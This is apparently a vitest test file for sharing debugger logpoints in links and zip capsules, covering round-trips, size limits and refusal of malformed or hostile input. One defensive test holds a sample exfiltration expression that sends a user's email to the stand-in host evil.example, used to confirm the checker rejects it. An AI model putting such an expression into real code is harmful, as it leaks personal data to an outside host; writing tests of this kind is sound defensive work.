// Logpoints in a link and a capsule: carried when the sender includes them, back with fresh ids,
// and refused with a message that names what is wrong when a link or capsule was made by hand.
import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { MAX_EXPRESSION, MAX_LOGPOINTS } from '../logpoints/limits';
import { MAX_LOGPOINTS as PREPARE_MAX } from '../logpoints/prepare';
import { MAX_EXPRESSION as CHECK_MAX, checkExpression } from '../logpoints/expression';
import { buildCapsule, readCapsule } from './capsule';
import { decodeLink, encodeLink, linkSize } from './link';
import { DEFAULT_LINK_LIMIT, LINK_LIMITS } from './linkLimits';
import { logpointsOfShared, MAX_PIN_TEXT, MAX_SHARED_PINS, sharedLogpointsOf } from './logpoints';
import { checkPayload, type IncidentPayload } from './payload';

const trace = { flowName: 'checkout', trace: [{ command: 'cmdLoadCart', path: '0', result: { total: 0 }, durationMs: 2 }] };

const points = [
  { id: 'lp1', file: 'flow.ts', line: 31, expr: 'total' },
  { id: 'lp2', file: 'services/cart.ts', line: 7, expr: 'cart.items.length' }
];
const pinned = [
  { id: 'lp1', seq: 4, step: 1, path: '1', text: '0', file: 'flow.ts', line: 31, expr: 'total' },
  { id: 'gone', seq: 9, text: '"<email:3f2a1c>"', file: 'flow.ts', line: 12, expr: 'user.email' }
];

const decoded = (fragment: string) => {
  const r = decodeLink(fragment);
  if (!r.ok) throw new Error(`${r.kind}: ${r.message}`);
  return r.payload;
};

const invalid = (payload: unknown) => {
  const r = checkPayload(payload);
  if (r.ok) throw new Error('expected the payload to be refused');
  return r.message;
};

describe('logpoints in a link', () => {
  it('the limits the schema uses are the ones the replay applies', () => {
    expect(MAX_LOGPOINTS).toBe(PREPARE_MAX);
    expect(MAX_EXPRESSION).toBe(CHECK_MAX);
  });

  it('go and come back: points by file, line and expression, pins with their text, step and path; ids made anew', () => {
    const payload: IncidentPayload = { v: 1, trace, logpoints: sharedLogpointsOf(points, pinned) };
    const back = decoded(encodeLink(payload));
    expect(back.logpoints).toEqual(payload.logpoints);
    // No id travels: a pin names its logpoint by its place.
    expect(JSON.stringify(back.logpoints)).not.toContain('lp1');
    const store = logpointsOfShared(back.logpoints!);
    expect(store.points).toEqual([
      { id: 'shared1', file: 'flow.ts', line: 31, expr: 'total' },
      { id: 'shared2', file: 'services/cart.ts', line: 7, expr: 'cart.items.length' }
    ]);
    expect(store.pinned[0]).toEqual({ id: 'shared1', seq: 4, step: 1, path: '1', text: '0', file: 'flow.ts', line: 31, expr: 'total' });
    // A pin whose logpoint was removed since still shows, under an id of its own.
    expect(store.pinned[1]).toMatchObject({ id: 'shared-pin2', seq: 9, text: '"<email:3f2a1c>"' });
  });

  it('a link without them decodes as before (an older link), and one with none stays small', () => {
    expect(decoded(encodeLink({ v: 1, trace })).logpoints).toBeUndefined();
    const without = encodeLink({ v: 1, trace });
    const withSome = encodeLink({ v: 1, trace, logpoints: sharedLogpointsOf(points, pinned) });
    // A few logpoints cost a few hundred characters, not a limit's worth.
    expect(linkSize(withSome) - linkSize(without)).toBeLessThan(400);
  });

  it('the most a link carries still fits the default link limit when compressed alike', () => {
    const many = Array.from({ length: MAX_LOGPOINTS }, (_, i) => ({ id: `lp${i}`, file: 'flow.ts', line: i + 1, expr: 'order.total' }));
    const fragment = encodeLink({ v: 1, trace, logpoints: sharedLogpointsOf(many, []) });
    expect(decoded(fragment).logpoints?.points).toHaveLength(MAX_LOGPOINTS);
    expect(linkSize(fragment)).toBeLessThan(DEFAULT_LINK_LIMIT);
    expect(DEFAULT_LINK_LIMIT).toBe(LINK_LIMITS[2].chars);
  });

  it('what goes out is cut to the bounds the receiver checks: counts, a long pinned text', () => {
    const many = Array.from({ length: MAX_LOGPOINTS + 5 }, (_, i) => ({ id: `lp${i}`, file: 'flow.ts', line: i + 1, expr: 'x' }));
    const pins = Array.from({ length: MAX_SHARED_PINS + 5 }, (_, i) => ({ id: 'lp0', seq: i, text: 'y'.repeat(MAX_PIN_TEXT + 10), file: 'flow.ts', line: 1, expr: 'x' }));
    const shared = sharedLogpointsOf(many, pins);
    expect(shared.points).toHaveLength(MAX_LOGPOINTS);
    expect(shared.pinned).toHaveLength(MAX_SHARED_PINS);
    expect(shared.pinned[0]!.text).toHaveLength(MAX_PIN_TEXT);
    expect(shared.pinned[0]!.text.endsWith('…')).toBe(true);
    expect(checkPayload({ v: 1, trace, logpoints: shared }).ok).toBe(true);
  });
});

describe('hostile logpoints are refused, saying what is wrong', () => {
  const base = (logpoints: unknown) => ({ v: 1, trace, logpoints });

  it('too many', () => {
    const tooMany = Array.from({ length: MAX_LOGPOINTS + 1 }, (_, i) => ({ file: 'flow.ts', line: i + 1, expr: 'x' }));
    expect(invalid(base({ points: tooMany, pinned: [] }))).toMatch(/^logpoints\.points: .*200/);
    const pins = Array.from({ length: MAX_SHARED_PINS + 1 }, (_, i) => ({ seq: i, text: '', file: 'flow.ts', line: 1, expr: 'x' }));
    expect(invalid(base({ points: [], pinned: pins }))).toMatch(/^logpoints\.pinned: /);
  });

  it('wrong types', () => {
    expect(invalid(base({ points: [{ file: 'flow.ts', line: '31', expr: 'x' }], pinned: [] }))).toMatch(/^logpoints\.points\.0\.line: expected number/);
    expect(invalid(base({ points: [{ file: 'flow.ts', line: 0, expr: 'x' }], pinned: [] }))).toMatch(/^logpoints\.points\.0\.line: /);
    expect(invalid(base({ points: [{ file: 'flow.ts', line: 1.5, expr: 'x' }], pinned: [] }))).toMatch(/^logpoints\.points\.0\.line: /);
    expect(invalid(base({ points: [{ file: 'flow.ts', line: 1, expr: { toString: 'x' } }], pinned: [] }))).toMatch(/^logpoints\.points\.0\.expr: expected string/);
    expect(invalid(base({ points: 'flow.ts:1=x', pinned: [] }))).toMatch(/^logpoints\.points: expected array/);
    expect(invalid(base({ points: [], pinned: [{ seq: -1, text: 'x', file: 'f.ts', line: 1, expr: 'x' }] }))).toMatch(/^logpoints\.pinned\.0\.seq: /);
    expect(invalid(base({ points: [], pinned: [{ seq: 1, text: 5, file: 'f.ts', line: 1, expr: 'x' }] }))).toMatch(/^logpoints\.pinned\.0\.text: expected string/);
  });

  it('a huge expression, file name or pinned text', () => {
    expect(invalid(base({ points: [{ file: 'flow.ts', line: 1, expr: 'a.'.repeat(100_000) + 'b' }], pinned: [] }))).toMatch(/^logpoints\.points\.0\.expr: .*500/);
    expect(invalid(base({ points: [{ file: 'f'.repeat(10_000), line: 1, expr: 'x' }], pinned: [] }))).toMatch(/^logpoints\.points\.0\.file: /);
    expect(invalid(base({ points: [], pinned: [{ seq: 1, text: 'x'.repeat(1_000_000), file: 'f.ts', line: 1, expr: 'x' }] }))).toMatch(/^logpoints\.pinned\.0\.text: /);
  });

  it('a pin that names a logpoint the link does not have', () => {
    expect(invalid(base({ points: [{ file: 'flow.ts', line: 1, expr: 'x' }], pinned: [{ point: 3, seq: 1, text: '', file: 'f.ts', line: 1, expr: 'x' }] }))).toBe(
      'logpoints.pinned.0.point: names logpoint 4, and there are 1'
    );
  });

  it('an expression that is no read is carried as text, and refused again by the checker before it could run', () => {
    // The link carries it (the receiver sees what was sent); every replay checks it again (prepare.ts).
    const payload = base({ points: [{ file: 'flow.ts', line: 1, expr: 'fetch("https://evil.example/?" + user.email)' }], pinned: [] });
    const r = checkPayload(payload);
    expect(r.ok).toBe(true);
    const expr = r.ok ? r.payload.logpoints!.points[0]!.expr : '';
    expect(checkExpression(expr)).toMatchObject({ ok: false });
  });

  it('unknown fields are dropped, as everywhere in the payload', () => {
    const r = checkPayload(base({ points: [{ file: 'flow.ts', line: 1, expr: 'x', id: 'mine', compile: 'evil()' }], pinned: [], extra: 1 }));
    expect(r.ok && r.payload.logpoints).toEqual({ points: [{ file: 'flow.ts', line: 1, expr: 'x' }], pinned: [] });
  });
});

describe('logpoints in a capsule', () => {
  it('travel as logpoints.json, listed in the manifest and the README', () => {
    const logpoints = sharedLogpointsOf(points, pinned);
    const bytes = buildCapsule({ v: 1, trace, logpoints }, { createdAt: new Date('2025-06-14T12:00:00Z') });
    const read = readCapsule(bytes);
    if (!read.ok) throw new Error(read.message);
    expect(read.payload.logpoints).toEqual(logpoints);
    expect(read.manifest.files).toContain('logpoints.json');
  });

  it('a hostile logpoints.json is refused, naming the file and the field', () => {
    const manifest = { schema: 1, createdAt: '2025-06-14T12:00:00Z', redaction: { applied: false, rules: [] }, files: ['trace.json', 'logpoints.json'] };
    const enc = (v: unknown) => new TextEncoder().encode(JSON.stringify(v));
    const zip = zipSync({
      'manifest.json': enc(manifest),
      'trace.json': enc(trace),
      'logpoints.json': enc({ points: [{ file: 'flow.ts', line: 1, expr: 'x'.repeat(MAX_EXPRESSION + 1) }], pinned: [] })
    });
    const read = readCapsule(zip);
    expect(read.ok).toBe(false);
    expect(!read.ok && read.message).toMatch(/^The capsule holds no valid incident: logpoints\.json: points\.0\.expr: /);
  });
});
